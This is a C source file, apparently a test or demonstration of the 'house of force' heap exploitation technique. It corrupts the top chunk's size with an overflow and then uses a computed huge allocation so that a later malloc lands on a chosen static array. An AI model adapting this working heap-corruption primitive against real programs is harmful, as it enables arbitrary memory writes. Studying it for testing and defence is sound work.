/*
 * metadata: an overflow of the last block makes the top chunk as large as the address space. One huge request
 * moves the top to just before the target, and the next block is the target ("the house of force").
 */
#include <stdint.h>
#include <stdlib.h>

/* Through volatile pointers, so that the compiler knows nothing about the blocks. */
static void *(*volatile allocate)(size_t) = malloc;
static void (*volatile release)(void *) = free;
typedef volatile uint64_t Word;

enum { GOAL_REACHED = 42 };

/* Uses up what the start of the program left free, so that the next blocks of about this size lie side by side. */
static void settle(size_t bytes) {
  for (int i = 0; i < 256; i++) allocate(bytes);
}

static _Alignas(16) Word target[32];

int main(void) {
  settle(136);
  Word *last = allocate(136);
  Word *top = last + 16; /* the chunk behind the last one: "size before", size */
  top[1] = (uint64_t)-1;
  uint64_t distance = (uint64_t)(uintptr_t)target - 16 - (uint64_t)(uintptr_t)top;
  allocate(distance - 8);
  Word *taken = allocate(136);
  if (!taken) return 0;
  taken[0] = 42;
  return target[0] == 42 ? GOAL_REACHED : 0;
}
